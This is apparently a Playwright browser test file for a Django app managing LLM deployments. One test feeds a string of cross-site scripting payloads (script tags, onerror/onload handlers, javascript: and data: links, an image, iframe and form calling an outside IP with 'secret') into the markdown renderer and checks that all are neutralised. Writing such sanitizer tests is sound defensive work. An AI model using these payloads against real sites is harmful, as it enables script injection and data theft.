"""The pages of what runs in a real browser."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client
from playwright.sync_api import Browser, Page, Request
from pytest_django.live_server_helper import LiveServer

from accounts.models import User
from inventory.models import Device
from jobs.models import Job
from serving.models import Deployment, ManagedProcess, RequestSample
from tests.e2llm_web.test_accessibility import LOOKS, faults, open_page
from tests.serving.test_pages import deployment, request_sample, traffic_samples

__all__ = ["deployment", "request_sample", "traffic_samples"]

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

HOSTILE = """
<script>window.hit = 1</script><img src=x onerror="window.hit = 1"><svg onload="window.hit = 1"></svg>
![remote](http://203.0.113.9/?q=secret) [click](javascript:window.hit=1) [data](data:text/html,<script>1</script>)
<iframe src="http://203.0.113.9/"></iframe><form action="http://203.0.113.9/"><input name=a></form>
<style>body { display: none }</style><a href="https://example.com" onclick="window.hit = 1">fine</a>

| a | b |
|---|---|
| 1 | **2** |

```html
<script>shown as code</script>
```
"""


class Elements(HTMLParser):
    """What a text of HTML consists of once it is read: words that only look like tags are none."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


SHOW_MARKDOWN = """async (text) => {
  const { showMarkdown } = await import("/static/js/playground-render.js");
  const box = document.createElement("div");
  document.querySelector("[data-log]").append(box);
  showMarkdown(box, text);
  await new Promise((resolve) => setTimeout(resolve, 300));
  return box.innerHTML;
}"""


@pytest.fixture
def processes(deployment: Deployment) -> list[ManagedProcess]:
    device = Device.objects.create(name="box-1", connection=Device.Connections.LOCAL)
    return [
        ManagedProcess.objects.create(
            replica=replica,
            device=device,
            kind="master",
            marker=f"e2llm-00000000000{replica.index}",
            argv=["/opt/llama-server", "--alias", "a b", "--threads", "4"],
            state="ready",
            pid=4242 + replica.index,
            port=18400 + replica.index,
        )
        for replica in deployment.replicas.all()
    ]


def test_hostile_answer_runs_nothing_and_loads_nothing(
    browser: Browser, live_server: LiveServer, admin: User, deployment: Deployment
) -> None:
    page = browser.new_context().new_page()
    log_in(page, live_server, admin)
    foreign: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith(live_server.url):
            foreign.append(request.url)

    page.on("request", note)
    page.goto(live_server.url + "/playground/")
    html: str = page.evaluate(SHOW_MARKDOWN, HOSTILE)
    assert page.evaluate("window.hit") is None
    assert foreign == []
    shown = Elements(html)
    assert shown.tags.isdisjoint({"img", "svg", "iframe", "form", "input", "style", "script"})
    assert not [name for name, _ in shown.attributes if name.startswith("on")]
    assert not [
        value for _, value in shown.attributes if value and value.startswith(("javascript:", "data:"))
    ]
    assert "<table>" in html
    assert "<strong>2</strong>" in html
    assert "shown as code" in html


def log_in(page: Page, live_server: LiveServer, user: User) -> None:
    client = Client()
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    value = client.cookies["sessionid"].value
    page.context.add_cookies([{"name": "sessionid", "value": value, "url": live_server.url}])


@pytest.mark.parametrize(("screen", "theme"), LOOKS)
def test_filled_pages_are_readable_by_everybody(
    browser: Browser,
    live_server: LiveServer,
    admin: User,
    processes: list[ManagedProcess],
    request_sample: RequestSample,
    traffic_samples: None,
    screen: str,
    theme: Any,
) -> None:
    page = open_page(browser, live_server, admin, screen, theme)
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    number = processes[0].replica.deployment_id
    paths = [
        "/deployments/",
        f"/deployments/{number}/",
        "/traffic/",
        "/traffic/requests/req-1/",
        "/playground/",
    ]
    found = {}
    for path in paths:
        page.goto(live_server.url + path, wait_until="load")
        found[path] = faults(page)
    assert {path: texts for path, texts in found.items() if texts} == {}
    assert errors == []


def test_open_command_line_stays_open_while_the_page_lives(
    browser: Browser, live_server: LiveServer, admin: User, processes: list[ManagedProcess]
) -> None:
    page = open_page(browser, live_server, admin, "desk", "light")
    page.goto(f"{live_server.url}/deployments/{processes[0].replica.deployment_id}/")
    with page.expect_response("**/live/"):
        pass
    page.locator(".process-list summary").first.click()
    page.wait_for_timeout(2500)
    assert page.locator(".process-list details").first.get_attribute("open") is not None
    assert "'a b'" in page.locator(".process-list code").first.inner_text()


def test_what_is_asked_about_a_replica_is_done_also_when_the_answer_takes_time(
    browser: Browser, live_server: LiveServer, admin: User, processes: list[ManagedProcess]
) -> None:
    replica = processes[0].replica
    page = open_page(browser, live_server, admin, "desk", "light")
    page.goto(f"{live_server.url}/deployments/{replica.deployment_id}/")
    page.locator("#live button", has_text="Restart").first.click()
    for _ in range(2):
        with page.expect_response("**/live/"):
            pass
    with page.expect_navigation():
        page.locator("#ask [data-ask-verb]").click()
    assert Job.objects.get().params == {
        "action": "restart",
        "deployment": replica.deployment_id,
        "replica": 0,
    }


def test_stop_asks_once_and_names_its_effect(
    browser: Browser, live_server: LiveServer, admin: User, deployment: Deployment
) -> None:
    page = open_page(browser, live_server, admin, "desk", "light")
    page.goto(f"{live_server.url}/deployments/{deployment.pk}/")
    page.locator("button", has_text="Stop").first.click()
    assert "its files are removed" in page.inner_text("#ask")
    page.locator("#ask [value=no]").click()
    deployment.refresh_from_db()
    assert deployment.wanted == Deployment.Wanted.RUNNING
    page.locator("button", has_text="Stop").first.click()
    with page.expect_navigation():
        page.locator("#ask [data-ask-verb]").click()
    deployment.refresh_from_db()
    assert deployment.wanted == Deployment.Wanted.STOPPED


def test_what_cannot_be_is_told_and_not_offered(
    browser: Browser, live_server: LiveServer, admin: User, deployment: Deployment
) -> None:
    page = open_page(browser, live_server, admin, "desk", "light")
    page.route(
        "**/deployments/effect/**", lambda route: route.fulfill(headers={"X-E2LLM-Refused": "1"}, body="No.")
    )
    page.goto(f"{live_server.url}/deployments/{deployment.pk}/")
    form = page.locator("form[data-confirm]", has_text="Stop").first
    form.evaluate(
        "form => { form.dataset.confirmFrom = '/deployments/effect/?deployment=1'; form.requestSubmit(); }"
    )
    page.locator("#ask").wait_for()
    assert page.inner_text("#ask [data-ask-effect]") == "No."
    assert page.locator("#ask [data-ask-verb]").is_hidden()
